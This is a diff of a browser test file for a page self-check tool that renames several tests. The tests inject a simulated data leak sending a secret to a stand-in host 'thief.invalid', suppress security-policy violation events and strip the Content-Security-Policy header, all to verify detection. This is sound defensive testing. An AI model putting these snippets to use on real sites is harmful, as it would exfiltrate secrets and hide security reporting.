@@ -2,10 +2,7 @@ import { leakOnSend } from './support/leaks.ts'
 import { rewritePages } from './support/rewrite-pages.ts'
 import { expect, test } from './support/self-check-test.ts'
 
-test('A request to another host is blocked and listed with what it carried', async ({
-  page,
-  check,
-}) => {
+test('A request to another host is blocked and listed with its data', async ({ page, check }) => {
   await page.addInitScript(
     leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
   )
@@ -16,10 +13,7 @@ test('A request to another host is blocked and listed with what it carried', asy
   await expect(check.verdict).toHaveText(/^Found\./)
 })
 
-test('The silence of a browser that tells nothing is not taken for proof', async ({
-  page,
-  check,
-}) => {
+test('Missing reports of a browser are not treated as proof', async ({ page, check }) => {
   await page.addInitScript(
     `addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true)`,
   )
@@ -28,7 +22,7 @@ test('The silence of a browser that tells nothing is not taken for proof', async
   await expect(check.policy).not.toContainText('it blocked nothing else')
 })
 
-test('The report says if there is no policy', async ({ page, check }) => {
+test('The report states that a policy is missing', async ({ page, check }) => {
   await rewritePages(page, (text) =>
     text.startsWith('<') ? text.replace('Content-Security-Policy', 'Nothing') : '',
   )
